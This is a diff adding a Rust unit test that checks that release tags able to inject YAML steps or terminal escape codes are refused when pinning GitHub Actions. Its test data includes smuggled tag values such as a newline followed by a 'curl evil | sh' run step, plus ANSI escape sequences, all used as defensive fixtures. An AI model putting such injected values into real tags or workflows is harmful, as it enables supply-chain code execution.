@@ -330,3 +330,38 @@ fn a_checklist_with_a_workflow_too_large_to_analyze_is_unknown_and_says_why() {
         run.offers(0)
     );
 }
+
+// ---------------------------------------------------------------- smaller findings
+
+#[test]
+fn a_live_release_tag_that_could_change_yaml_or_a_terminal_is_refused() {
+    use ghcr_setup_core::actions::{is_safe_tag, newest_release, Action, Pin, PinError};
+    let sha = "0123456789abcdef0123456789abcdef01234567";
+    for bad in [
+        "v7.0.1+x\n      - run: curl evil | sh",
+        "v7.0.1\n",
+        " v7.0.1",
+        "v7.0.1+\u{1b}[2J",
+        "v7.0.1 # ok",
+        "v7.0.1+a..b",
+    ] {
+        assert!(!is_safe_tag(bad), "{bad:?}");
+        let err = Pin::live(Action::Cache, bad, sha, 0).unwrap_err();
+        assert!(
+            matches!(err, PinError::UnsafeTag(_) | PinError::NotAVersion(_)),
+            "{bad:?}: {err:?}"
+        );
+        let shown = err.to_string();
+        assert!(!shown.contains(['\n', '\u{1b}']), "{shown:?}");
+    }
+    let pin = Pin::live(Action::Cache, "v7.0.1+build.5", sha, 0).unwrap();
+    assert_eq!(pin.tag(), "v7.0.1+build.5");
+    // The releases list skips such a tag and takes the newest safe one.
+    let body = serde_json::json!([
+        {"tag_name": "v5.9.0+x\n  - run: evil", "draft": false, "prerelease": false},
+        {"tag_name": "v5.0.10", "draft": false, "prerelease": false},
+    ])
+    .to_string();
+    let latest = newest_release(&body, Action::Cache, 5).unwrap();
+    assert_eq!(latest.in_major.map(|r| r.tag), Some("v5.0.10".to_string()));
+}
